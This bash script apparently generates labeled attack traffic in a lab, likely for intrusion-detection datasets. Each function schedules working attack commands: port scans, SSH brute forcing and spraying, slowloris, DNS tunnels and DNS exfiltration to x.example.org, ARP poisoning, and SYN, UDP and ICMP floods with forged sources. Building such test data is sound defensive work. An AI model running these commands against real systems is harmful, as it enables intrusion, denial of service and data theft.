# shellcheck shell=bash disable=SC2016
# Attacks, a function a capture of about 200 s. `at SECOND LABEL HOST VICTIM TOOL LENGTH COMMAND NOTES` is one episode; $T is this folder. pick chooses by SEED.

scan_nmap() {
    at 5 port_scan evil1 "$W" nmap 190 "nmap -n -Pn -sS -p 1-2000 --scan-delay $(pick 1s 1500ms 800ms) --max-retries 0 $W" "SYN scan, about 1 probe/s"
    at 8 port_scan evil2 "$S,$A,$Q" nmap 80 "nmap -n -Pn -sT -p 1-400 --max-rate $(pick 15 8 30) --max-retries 1 $S $A $Q" "connect scan, three hosts"
    at 100 port_scan evil2 "$Q" nmap 60 "nmap -n -Pn $(pick -sF -sX -sN) --max-rate 25 --max-retries 1 -p 1-900 $Q" "FIN, Xmas or null"
    at 12 port_scan evil3 "$Q" nmap 120 "nmap -n -Pn -sU --max-rate $(pick 12 6 20) --max-retries 1 --top-ports 600 $Q" "UDP scan"
    at 30 port_scan evil4 "$F" nmap 100 "nmap -n -Pn -sS -F --max-rate 10 --max-retries 1 $F" "all filtered"
    at 150 port_scan evil4 "$A" nmap 45 "nmap -n -Pn -sV -T4 --top-ports 300 $A" "SYN scan, then versions"
}

scan_stateless() {
    local outside; outside=$(pick 203.0.113.0/25 198.18.7.0/24 203.0.113.128/25)
    at 5 port_scan evil1 "$SUBNET;$W;$S;$A;$Q;$F" masscan 70 "masscan $SUBNET -p22,80,443,3389,8080 --rate $(pick 12 40 100) --interface eth0 --wait 3" "several ports of a subnet, mostly dead addresses"
    at 20 port_scan evil2 "$outside" masscan 60 "masscan $outside -p0-20 --rate $(pick 150 60 25) --interface eth0 --wait 3" "outside network"
    at 100 port_scan evil1 "$outside" zmap 80 "ping -c1 $GATEWAY; zmap -q -G \$(ip neigh show $GATEWAY | cut -d' ' -f5) -p $(pick 22 23 445) -r $(pick 3 10 60) -i eth0 -b /dev/null -C /dev/null -c 2 -o /dev/null $outside" "one port of a network"
    at 30 port_scan evil3 "$W" nping 60 "nping -q --tcp --flags syn -p 1-600 --rate $(pick 9 25 70) -c 1 $W" "one SYN a port"
    at 110 port_scan evil4 "$S,$A,$Q,$F" scanssh 60 "scanssh -n 22,80,1080,3128,8080,2222 -s ssh $S $A $Q $F" "few ports, few hosts"
}

scan_other() {
    at 5 port_scan evil1 "$Q" hping3 90 "hping3 -q -S -p ++$(pick 1 700 3000) -i u$(pick 200000 90000 400000) $Q" "SYN, next port each time"
    at 10 port_scan evil2 "$W" nc 170 "for p in \$(shuf -i 1-5000 -n 900 --random-source=/etc/services); do nc -z -w 1 $W \$p; sleep $(pick 0.4 0.2 0.9); done" "connects one after the other"
    at 12 port_scan evil3 "$S,$A,$Q,$W,$F" scan.py 150 "python3 \$T/scan.py $S,$A,$Q,$W,$F $(pick 21-25,80,110,143,443,445,993,3306,3389,5432,6379,8080,8443,9200 1-60 20-120) rate=$(pick 3 12 5) order=random" "random order over five hosts"
    at 100 port_scan evil1 "$W" hping3 40 "hping3 --scan 1-300 -S -i u$(pick 20000 50000 8000) $W" "scan mode"
    if [ -n "$W6" ]; then
        at 30 port_scan evil4 "$W6" nmap 60 "nmap -6 -n -Pn -sS -p 1-500 --max-rate 20 --max-retries 1 $W6" "IPv6"
        at 110 port_scan evil4 "$Q6" scan.py 60 "python3 \$T/scan.py $Q6 1-400 rate=8 order=port" "IPv6 connects"
    else
        at 30 port_scan evil4 "$S" bash 80 "for p in \$(seq 1 800); do timeout 1 bash -c \"</dev/tcp/$S/\$p\"; sleep 0.15; done" "bash connects"
    fi
    at 170 port_scan evil3 "$Q" scan.py 30 "python3 \$T/scan.py $Q 1-1000 rate=30 kind=udp" "empty datagrams"
}

scan_slow() {
    local dead; dead=$(tr ' ' , <<<"$DEAD")
    at 4 port_scan evil1 "$Q" scan.py 215 "python3 \$T/scan.py $Q 1-1000 rate=$(pick 1 0.7 1.3)" "about 1 connect/s, closed ports"
    at 5 port_scan evil2 "$F" scan.py 215 "python3 \$T/scan.py $F 1-1000 rate=$(pick 1.2 1 0.8) wait=2" "about 1 connect/s, filtered"
    at 6 port_scan evil3 "198.18.9.0/24" scan.py 215 "python3 \$T/scan.py 198.18.9.0/24 $(pick 22 445 3389) rate=$(pick 1 2 1.5)" "one port, a host a second"
    at 7 port_scan evil4 "$W" hping3 215 "hping3 -q -S -p ++20 -i $(pick 1 u700000 2) $W" "about 1 SYN/s, the next port each time"
    at 150 port_scan pc1 "$S,$dead" scan.py 60 "python3 \$T/scan.py $S,$dead 22,80,443,445,3389,5900,8080,8443,1433,3306 rate=1" "an ordinary client, dead hosts mostly"
}

guess_tools() {
    at 4 ssh_brute evil1 "$S" hydra 60 "hydra -I -l alice -P $RUN/words -t $(pick 4 2 8) ssh://$S" ""
    at 6 ssh_brute evil2 "$S" medusa 75 "medusa -h $S -n $(pick 2222 22 22) -u root -P $RUN/words -M ssh -t $(pick 2 1 3)" ""
    at 8 ssh_brute evil3 "$A" patator 80 "patator ssh_login host=$A port=$APORT user=alice password=FILE0 0=$RUN/words -t $(pick 2 3 1) -x ignore:mesg=Authentication" ""
    at 10 ssh_brute evil4 "$S" ncrack 80 "ncrack -p ssh:22 --user alice -P $RUN/words -g CL=$(pick 2 1 4) $S" ""
    at 110 ssh_brute evil1 "$S" nmap 75 "nmap -n -Pn -p 22 --script ssh-brute --script-args userdb=$RUN/users,passdb=$RUN/words,brute.threads=3 $S" "script ssh-brute"
    at 115 ssh_brute evil2 "$A" hydra 80 "hydra -I -L $RUN/users -p Summer2026 -s $APORT -t 2 -c 2 ssh://$A" "one password, many users, 2 s apart"
}

guess_slow() {
    at 4 ssh_brute evil1 "$S" sshpass 215 "while true; do sshpass -p guess\$RANDOM ssh $SSH_OPTIONS -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 root@$S true; sleep $(pick 8 9 6); done" "a guess in about 10 s"
    at 5 ssh_brute evil2 "$S" paramiko 215 "python3 \$T/ssh_guess.py $S 22 per=6 gap=$(pick 2 5 1)" "six guesses a connection"
    at 6 ssh_brute evil3 "$A" paramiko 215 "python3 \$T/ssh_guess.py $A $APORT per=1 gap=$(pick 7 5 10)" "one guess a connection, several seconds apart"
    at 8 ssh_brute evil4 "$S" hydra 215 "hydra -I -l admin -P $RUN/words -c $(pick 8 5 10) ssh://$S" "one at a time"
}

guess_other() {
    at 4 ssh_brute evil1 "$S" paramiko 70 "python3 \$T/ssh_guess.py $S 2222 per=$(pick 6 3 4) gap=0 width=$(pick 2 1 3)" "port 2222"
    at 6 ssh_brute evil2 "$S" net-ssh 80 "ruby \$T/ssh_guess.rb $S 22 $RUN/words $(pick 0.2 1 0)" "Ruby"
    at 8 ssh_brute evil3 "$A" asyncssh 80 "python3 \$T/ssh_spray.py $A $APORT $RUN/users $(pick 3 1 5)" "many users, one password"
    at 10 ssh_brute evil4 "${S6:-$S}" ssh 80 "for p in \$(head -200 $RUN/words); do SSH_ASKPASS_REQUIRE=force SSH_ASKPASS=$RUN/askpass ssh $SSH_OPTIONS -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=3 root@${S6:-$S} true; sleep $(pick 0.5 1 2); done" "OpenSSH itself, three guesses a connection${S6:+, IPv6}"
    at 110 ssh_brute evil1 "$S,$A" paramiko 80 "python3 \$T/ssh_guess.py $S 22 gap=1 count=70 & python3 \$T/ssh_guess.py $A $APORT gap=1 count=70; wait" "two hosts at once"
    at 115 ssh_brute evil3 "$S" libssh2 80 "perl \$T/ssh_guess.pl $S 22 $RUN/words $(pick 1 3 0)" "Perl"
}

slow_headers() {
    at 4 slowloris evil1 "$W" slow_http.py 200 "python3 \$T/slow_http.py $W 80 count=$(pick 50 80 60) gap=$(pick 10 15 7)" "headers"
    at 6 slowloris evil2 "$W" slowhttptest 90 "slowhttptest -H -c $(pick 70 150 100) -r 20 -i $(pick 9 5 12) -l 85 -x 12 -p 4 -u http://$W/" "headers"
    at 20 slowloris evil3 "${W6:-$W}" slow_http.py 180 "python3 \$T/slow_http.py ${W6:-$W} 443 tls=1 count=$(pick 55 100 70) gap=$(pick 12 8 20)" "headers inside TLS"
    at 110 slowloris evil4 "$A" slowhttptest 85 "slowhttptest -H -c $(pick 60 100 80) -r 5 -i $(pick 12 8 10) -l 80 -x 10 -p 4 -u http://$A:$APP/" "headers, python's server"
}

slow_bodies() {
    at 4 slowloris evil1 "$W" slow_http.py 200 "python3 \$T/slow_http.py $W 80 way=body count=$(pick 60 50 90) gap=$(pick 8 12 5)" "bodies"
    at 6 slowloris evil2 "$W" slowhttptest 90 "slowhttptest -B -c $(pick 90 60 120) -r 15 -i $(pick 8 10 5) -l 85 -s 8192 -x 10 -p 4 -u http://$W/form" "bodies"
    at 15 slowloris evil3 "$W" slow_http.py 180 "python3 \$T/slow_http.py $W 80 way=read count=$(pick 50 70 60) gap=$(pick 6 9 4)" "slow reading"
    at 105 slowloris evil4 "$W" slowhttptest 90 "slowhttptest -X -c $(pick 80 60 120) -r 15 -l 85 -n $(pick 5 3 7) -y 1024 -w 512 -z 32 -k 3 -p 4 -u http://$W/report.bin" "slow reading"
}

tunnel_iodine() {
    local kind; kind=$(pick NULL TXT SRV)
    at 4 dns_tunnel evil1 "$RESOLVER" iodine 70 "iodine -f -r -T $kind -P lab-tunnel -d dns1 $RESOLVER t.example.net & sleep 5; ping -q -i $(pick 0.3 1 0.5) -s $(pick 200 56 500) 172.31.53.1" "$kind, ping inside"
    at 90 dns_tunnel evil1 "$RESOLVER" iodine 110 "iodine -f -r -T $(pick MX CNAME TXT) -P lab-tunnel -d dns2 $RESOLVER t.example.net" "only keep-alive"
    at 8 dns_tunnel evil2 203.0.113.66 iodine 80 "iodine -f -r -T $(pick TXT NULL CNAME) -O $(pick base32 base64 base128) -P lab-tunnel -d dns3 203.0.113.66 t.example.net & sleep 6; curl -s -m 60 --limit-rate $(pick 3k 8k 1k) -o /dev/null http://172.31.53.1/report.bin" "straight to the server, download inside"
}

tunnel_dns2tcp() {
    local loop='while true; do curl -s -m 20 -o /dev/null http://127.0.0.1:8888/page2-900.html'
    at 4 dns_tunnel evil1 "$RESOLVER" dns2tcp 90 "dns2tcpc -r web -z d.example.net -l 8888 -T TXT $RESOLVER & sleep 2; $loop; sleep $(pick 2 5 1); done" "TXT"
    at 6 dns_tunnel evil2 203.0.113.67 dns2tcp 90 "dns2tcpc -r web -z d.example.net -l 8888 -T $(pick KEY TXT KEY) 203.0.113.67 & sleep 2; $loop; sleep $(pick 4 1 8); done" "straight to the server"
    at 110 dns_tunnel evil3 "$RESOLVER" dns2tcp 90 "dns2tcpc -r web -z d.example.net -l 8888 -T $(pick KEY KEY TXT) $RESOLVER & sleep 2; $loop; sleep $(pick 1 10 4); done" ""
}

exfiltration() {
    local send="python3 \$T/dns_exfil.py send $RESOLVER x.example.org"
    at 4 dns_tunnel evil1 "$RESOLVER" dns_exfil.py 200 "$send type=A code=hex rate=$(pick 2 3 1.5) label=$(pick 48 60 32) labels=$(pick 2 1 3)" "A, hex, slow"
    at 6 dns_tunnel evil2 "$RESOLVER" dns_exfil.py 90 "$send type=TXT code=b32 rate=$(pick 10 5 40) label=$(pick 50 30 60) labels=$(pick 1 2 3)" "TXT"
    at 8 dns_tunnel evil3 "$RESOLVER" dns_exfil.py 90 "$send type=CNAME+A code=b64 rate=$(pick 6 15 3) label=$(pick 55 40 62) labels=$(pick 2 3 1)" "CNAME and A"
    at 110 dns_tunnel evil4 "$RESOLVER" dns_exfil.py 90 "$send type=AAAA code=mix rate=$(pick 4 8 20) label=$(pick 40 24 56) labels=$(pick 1 2 2)" "AAAA, counters"
    at 115 dns_tunnel pc1 203.0.113.68 dns_exfil.py 85 "python3 \$T/dns_exfil.py send 203.0.113.68 x.example.org type=$(pick NULL MX TXT) code=hex rate=$(pick 8 4 2) label=50 labels=3" "an ordinary client, straight to the server"
}

arp_tools() {
    at 4 arp_spoof evil1 "${LANS[0]}" arpspoof 60 "arpspoof -i eth0 -t ${LANS[0]} $GATEWAY" "one way, 02 MAC ${MAC[evil1]}"
    at 80 arp_spoof evil2 "${LANS[1]}" ettercap 60 "ettercap -T -q -i eth0 -M arp:remote /${LANS[1]}// /$GATEWAY// </dev/zero" "both ways and relay"
    at 150 arp_spoof evil3 "${LANS[2]}" bettercap 50 "ping -q -c1 ${LANS[2]}; ping -q -c1 $GATEWAY; sleep 46 | bettercap -iface eth0 -no-colors -no-history -gateway-override $GATEWAY -eval 'set arp.spoof.targets ${LANS[2]}; set arp.spoof.fullduplex true; arp.spoof on'" "both ways; gateway $GATEWAY"
    at 60 arp_spoof evil4 "${LANS[3]}" scapy 140 "scapy_poison() { python3 -c \"from scapy.all import *; arpcachepoison('${LANS[3]}', '$GATEWAY', interval=$(pick 5 10 3))\"; }; scapy_poison" "arpcachepoison of ${LANS[3]} for $GATEWAY"
}

arp_own() {
    local lie="python3 \$T/arp_lie.py"
    at 4 arp_spoof evil1 "${LANS[0]}" arp_lie.py 60 "$lie ${LANS[0]} $GATEWAY way=request gap=$(pick 2 1 5) both=1" "unicast requests, both ways"
    at 70 arp_spoof evil2 "${LANS[1]}" arp_lie.py 60 "$lie ${LANS[1]} $GATEWAY way=gratuitous gap=$(pick 1 3 2)" "gratuitous announcements"
    at 8 arp_spoof evil3 "${LANS[2]}" arp_lie.py 180 "$lie ${LANS[2]} ${LANS[3]} way=reply gap=$(pick 10 6 15) both=1" "unicast replies, slow"
    at 140 arp_spoof evil4 "${LANS[3]}" arp_lie.py 60 "$lie ${LANS[3]} $GATEWAY way=broadcast gap=$(pick 2 1 4)" "broadcast replies"
}

flood_syn() {
    at 4 syn_flood evil1 "$W" flood.py 50 "python3 \$T/flood.py syn $W rate=$(pick 60 150 1000) ports=80" "own address"
    SOURCE_IP='' at 70 syn_flood evil2 "$W" hping3 40 "hping3 -q -S -p $(pick 443 80 80) --rand-source -i u$(pick 5000 1000 20000) $W" "random sources"
    at 60 syn_flood evil3 "$S" nping 50 "nping -q --tcp --flags syn -p 22 --rate $(pick 200 80 600) -c 30000 $S" "own address"
    SOURCE_IP='' at 125 syn_flood evil4 "$A" flood.py 40 "python3 \$T/flood.py syn $A rate=$(pick 400 100 2000) ports=$APP from=$(pick 198.18.0.0/20 10.0.0.0/8 192.0.2.0/24) burst=$(pick 1 10 1)" "forged sources of one network"
    at 130 syn_flood evil1 "$Q" hping3 40 "hping3 -q -S -p $(pick 81 443 8443) -i u$(pick 10000 4000 1500) $Q" "closed port, own address"
    SOURCE_IP='' at 180 syn_flood evil2 "$S" mausezahn 30 "mausezahn eth0 -q -A rand -B $S -t tcp 'flags=syn,dp=22' -d $(pick 4msec 10msec 2msec) -c 12000" "random sources"
}

flood_udp() {
    at 4 udp_flood evil1 "$Q" flood.py 50 "python3 \$T/flood.py udp $Q rate=$(pick 100 400 1500) size=$(pick 512 32 1200) ports=$(pick 9000 53 5060)" "sockets, one port"
    at 60 udp_flood evil2 "$W" hping3 45 "hping3 -q --udp -p $(pick 123 80 4500) -d $(pick 200 18 900) -i u$(pick 4000 1000 10000) $W" ""
    at 65 udp_flood evil3 "$S" flood.py 45 "python3 \$T/flood.py udp $S rate=$(pick 300 1000 120) size=$(pick 64 700 1400) ports=1-65000" "sockets, random ports"
    at 120 udp_flood evil4 "$A" nping 45 "nping -q --udp -p $(pick 161 1900 11211) --rate $(pick 150 500 900) --data-length $(pick 100 1000 40) -c 45000 $A" ""
    SOURCE_IP='' at 125 udp_flood evil1 "$W" flood.py 45 "python3 \$T/flood.py udp $W rate=$(pick 500 200 2500) size=$(pick 300 60 800) ports=$(pick 443 80 27015) from=198.18.0.0/15" "forged sources"
    at 175 udp_flood evil2 "$F" mausezahn 30 "mausezahn eth0 -q -B $F -t udp dp=7777 -p $(pick 400 50 1000) -d $(pick 5msec 2msec 1msec) -c 25000" "filtered host"
    at 178 udp_flood evil3 "$S" flood.py 30 "python3 \$T/flood.py udp $S rate=$(pick 60 100 150) size=$(pick 4000 8000 3000) ports=9999 burst=5" "in fragments"
}

flood_icmp() {
    at 4 icmp_flood evil1 "$W" ping 50 "ping -q -f -i $(pick 0.01 0.004 0.002) ${W}" "ping -f"
    at 60 icmp_flood evil2 "$Q" fping 45 "fping -q -l -p $(pick 8 3 15) -b $(pick 56 1000 200) $Q" ""
    at 65 icmp_flood evil3 "$S" hping3 45 "hping3 -q -1 -d $(pick 1200 56 600) -i u$(pick 3000 10000 1000) $S" ""
    at 120 icmp_flood evil4 "$F" nping 45 "nping -q --icmp --rate $(pick 100 300 800) -c 36000 $F" "no answers"
    SOURCE_IP='' at 125 icmp_flood evil1 "$W" hping3 45 "hping3 -q -1 --rand-source -i u$(pick 4000 2000 10000) $W" "random sources"
    at 175 icmp_flood evil2 "$A" flood.py 35 "python3 \$T/flood.py icmp $A rate=$(pick 60 150 1200) size=$(pick 56 8 1000)" "own"
    [ -z "$W6" ] || at 178 icmp_flood evil3 "$W6" ping 30 "ping -6 -q -f -i 0.004 $W6" "IPv6"
}

mixed() {                   # attacks beside and after one another, over the attackers' ordinary traffic
    at 4 port_scan evil1 "$Q" scan.py 70 "python3 \$T/scan.py $Q 1-600 rate=$(pick 4 9 2)" ""
    at 10 ssh_brute evil2 "$S" hydra 70 "hydra -I -l root -P $RUN/words -t $(pick 1 3 2) ssh://$S" ""
    at 20 slowloris evil3 "$W" slow_http.py 150 "python3 \$T/slow_http.py $W 80 count=$(pick 45 60 120) gap=$(pick 9 14 6) ramp=0.4" ""
    at 30 dns_tunnel pc2 "$RESOLVER" dns_exfil.py 120 "python3 \$T/dns_exfil.py send $RESOLVER x.example.org type=TXT+A code=hex rate=$(pick 3 6 2) label=44 labels=2" "an ordinary client"
    at 90 syn_flood evil4 "$S" flood.py 40 "python3 \$T/flood.py syn $S rate=$(pick 100 300 80) ports=22" ""
    at 140 udp_flood evil1 "$A" hping3 40 "hping3 -q --udp -p 5353 -d 90 -i u$(pick 3000 6000 1500) $A" ""
    at 150 icmp_flood evil2 "$Q" ping 40 "ping -q -f -i 0.005 -s $(pick 56 400 1000) $Q" ""
    at 190 port_scan evil4 "$W" nmap 25 "nmap -n -Pn -sS -T4 --top-ports 200 $W" ""
}
